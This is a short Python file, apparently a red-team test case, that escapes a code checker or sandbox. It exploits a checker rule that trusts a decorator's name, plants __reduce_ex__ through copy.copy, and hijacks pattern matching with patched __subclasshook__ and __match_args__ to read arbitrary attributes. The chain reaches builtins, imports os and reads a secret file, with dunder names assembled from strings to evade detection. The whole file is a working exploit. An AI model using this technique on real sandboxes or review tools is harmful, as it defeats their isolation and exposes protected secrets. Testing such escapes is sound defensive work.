# family: red team, round 10 (fake_classmethod_constructor_reinit)
# cls.__init__(...) is accepted in "a classmethod whose first parameter is cls", judged by the decorator's NAME.
# A function of the tool named classmethod returns staticmethod(f): cls is then any object, here a
# SimpleNamespace, whose __init__(**names) (the SimpleNamespace(**...) rule looks at the callee's head name, here
# __init__) plants a run-time __reduce_ex__; copy.copy() -> setattr by run-time names -> class pattern.
import abc
import copy
from types import SimpleNamespace


def classmethod(function):
    return staticmethod(function)


class Filler:
    @classmethod
    def fill(cls, names):
        cls.__init__(**names)


class Probe(abc.ABC):
    __match_args__ = ("value",)


def _d(word):
    u = "_"
    return u + u + word + u + u


def install(target, names):
    def reducer(protocol):
        return (lambda: target, (), (None, names))

    ns = SimpleNamespace()
    Filler.fill(ns, {_d("reduce_ex"): reducer})
    copy.copy(ns)


def read(obj, attribute):
    install(Probe, {_d("subclasshook"): lambda sub: True, _d("match_args"): (attribute,)})
    match obj:
        case Probe(value):
            return value
    return None


def run():
    g = read(read, _d("globals"))
    b = g[_d("builtins")]
    if not isinstance(b, dict):
        b = read(b, _d("dict"))
    osmod = b[_d("import")]("os")
    return type(osmod).__name__, osmod.getpid(), b["open"]("/tmp/r10/work/secret.txt").read().strip()


print(run())
